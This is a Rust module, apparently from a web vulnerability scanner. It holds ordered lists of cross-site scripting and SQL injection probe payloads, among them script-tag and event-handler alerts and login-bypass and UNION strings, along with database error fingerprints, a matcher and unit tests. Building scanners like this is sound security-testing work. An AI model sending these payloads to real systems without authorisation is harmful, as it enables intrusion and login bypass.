//! Probe corpora and response fingerprints.
//!
//! Order matters: payloads are tried exactly in corpus order and detectors
//! stop at the first confirming payload per input, so the canonical payload
//! sits first in each list.

pub const XSS_PAYLOADS: &[&str] = &[
    r#"<script>alert("XSS")</script>"#,
    r#""><script>alert("XSS")</script>"#,
    r#"<img src=x onerror=alert("XSS")>"#,
    r#"javascript:alert("XSS")"#,
    r#"<svg onload=alert("XSS")>"#,
    r#"<img src="javascript:alert('XSS')">"#,
    r#"<iframe src="javascript:alert('XSS')"></iframe>"#,
];

pub const SQL_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1--",
    "' OR 1=1#",
    "' OR 1=1/*",
    "admin'--",
    "admin' #",
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "1' ORDER BY 1--",
    "1' AND '1'='1",
    "\" OR \"1\"=\"1",
    "') OR ('1'='1",
];

/// Database error strings that, seen in a response body, are treated as
/// evidence of a database error leaking to the client.
pub const SQL_ERRORS: &[&str] = &[
    "mysql_fetch_array",
    "ORA-",
    "Microsoft OLE DB Provider",
    "PostgreSQL query failed",
    "Warning: mysql_",
    "SQL syntax",
    "mysql_error",
    "valid MySQL result",
    "MySqlClient",
    "syntax error",
];

pub fn contains_ignore_case(haystack: &str, needle: &str) -> bool {
    haystack.to_lowercase().contains(&needle.to_lowercase())
}

/// First SQL error fingerprint present in `body`, if any.
pub fn match_sql_error(body: &str) -> Option<&'static str> {
    let lowered = body.to_lowercase();
    SQL_ERRORS
        .iter()
        .find(|fingerprint| lowered.contains(&fingerprint.to_lowercase()))
        .copied()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_corpus_sizes() {
        assert_eq!(XSS_PAYLOADS.len(), 7);
        assert_eq!(SQL_PAYLOADS.len(), 12);
        assert_eq!(SQL_ERRORS.len(), 10);
    }

    #[test]
    fn test_canonical_payloads_first() {
        assert_eq!(XSS_PAYLOADS[0], r#"<script>alert("XSS")</script>"#);
        assert_eq!(SQL_PAYLOADS[0], "' OR '1'='1");
    }

    #[test]
    fn test_match_sql_error_is_case_insensitive() {
        assert_eq!(
            match_sql_error("You have an error in your sql Syntax near line 1"),
            Some("SQL syntax")
        );
        assert_eq!(match_sql_error("ora-00933: command not ended"), Some("ORA-"));
        assert_eq!(match_sql_error("all good"), None);
    }

    #[test]
    fn test_contains_ignore_case() {
        assert!(contains_ignore_case(
            "<SCRIPT>ALERT(\"xss\")</SCRIPT>",
            r#"<script>alert("XSS")</script>"#
        ));
        assert!(!contains_ignore_case("nothing here", "<script>"));
    }
}
